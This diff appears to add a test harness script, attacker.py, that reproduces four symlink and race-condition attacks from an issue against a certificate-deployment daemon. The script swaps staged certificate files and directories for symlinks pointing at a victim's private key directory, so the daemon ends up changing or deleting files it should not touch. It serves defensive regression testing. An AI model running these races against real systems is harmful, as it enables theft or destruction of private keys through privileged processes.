@@ -1,0 +1,116 @@
+"""The attacks of issue 12, run as the deploy directory's owner (never as root).
+
+Usage: attacker.py ATTACK DEPLOY_DIR VICTIM_DIR DEADLINE_SECONDS
+
+Each attack prints "ready" once set up, then tries until it has done its move, the file
+DEPLOY_DIR/../stop appears, or the deadline passes; it prints what it did and exits 0.
+It only uses what a directory owner can do: rename, symlink, create, remove in DEPLOY_DIR.
+Standard library only: it runs under the system python3 as an unprivileged user.
+"""
+
+from __future__ import annotations
+
+import os
+import sys
+import time
+
+attack, deploy, victim, deadline = sys.argv[1], sys.argv[2], sys.argv[3], time.monotonic() + float(sys.argv[4])
+stop = os.path.join(os.path.dirname(deploy), "stop")
+
+
+def going() -> bool:
+    return time.monotonic() < deadline and not os.path.exists(stop)
+
+
+def say(msg: str) -> None:
+    print(msg, flush=True)
+
+
+def swap_for_symlink(path: str, target: str) -> bool:
+    """Replace ``path`` (whatever it is) with a symlink to ``target``; False if it vanished."""
+    aside = path + ".attacker-aside"
+    try:
+        os.rename(path, aside)
+    except FileNotFoundError:
+        return False
+    os.symlink(target, path)
+    return True
+
+
+def f1() -> None:
+    """No race: .www.versions becomes a symlink to the victim directory, before the renewal."""
+    root = os.path.join(deploy, ".www.versions")
+    swap_for_symlink(root, victim)
+    say("ready")
+    say("f1: .www.versions -> victim")
+
+
+def f2() -> None:
+    """Race the drift repair: remove the live file (so certd repairs and re-fixes the staged
+    file's mode), and flip the staged name to a symlink to the victim file meanwhile."""
+    live = os.path.join(deploy, "cert.pem")
+    target = os.path.join(victim, "0001", "privkey.pem")
+    say("ready")
+    flips = 0
+    while going():
+        staged = [n for n in os.listdir(deploy) if n.startswith(".cert.pem.certd-") and n[-1].isdigit()]
+        if os.path.exists(live) and not os.path.islink(live):
+            try:
+                os.unlink(live)  # drift: certd redeploys, re-staging the same version
+            except FileNotFoundError:
+                pass
+        for n in staged:
+            p = os.path.join(deploy, n)
+            tmp = p + ".attacker"
+            try:
+                os.symlink(target, tmp)
+                os.rename(tmp, p)         # now a symlink to the victim...
+                time.sleep(0.0005)
+                os.unlink(p)              # ...and gone again: certd writes a fresh file
+                flips += 1
+            except OSError:
+                pass
+    say(f"f2: {flips} flips")
+
+
+def f3() -> None:
+    """Plant a leftover temp dir certd cleans up, and swap its subdirectory for a symlink to the
+    victim directory as soon as certd starts deleting inside it."""
+    top = os.path.join(deploy, ".www.pem.tmp-attacker")
+    sub = os.path.join(top, "s")
+    os.makedirs(sub)
+    names = [f"f{i:03d}" for i in range(200)] + ["privkey.pem"]  # the victim's names (it cannot list them)
+    for n in names:
+        with open(os.path.join(sub, n), "wb") as f:
+            f.write(b"x" * 4096)
+    target = os.path.join(victim, "0001")
+    say("ready")
+    while going():
+        if len(os.listdir(sub)) < len(names):  # certd is deleting inside s: swap it now
+            swap_for_symlink(sub, target)
+            say("f3: swapped s -> victim")
+            return
+        time.sleep(0.0002)
+    say("f3: certd never touched the planted directory")
+
+
+def f4() -> None:
+    """Replace the freshly staged file with a symlink to the victim file before the switch."""
+    target = os.path.join(victim, "0001", "privkey.pem")
+    before = set(os.listdir(deploy))
+    say("ready")
+    while going():
+        for n in os.listdir(deploy):
+            if n.startswith(".www.pem.certd-") and n[-1].isdigit() and n not in before:
+                p = os.path.join(deploy, n)
+                if not os.path.islink(p):
+                    tmp = p + ".attacker"
+                    os.symlink(target, tmp)
+                    os.rename(tmp, p)
+                    say(f"f4: {n} -> victim")
+                    return
+        time.sleep(0.0002)
+    say("f4: nothing staged")
+
+
+{"f1": f1, "f2": f2, "f3": f3, "f4": f4}[attack]()
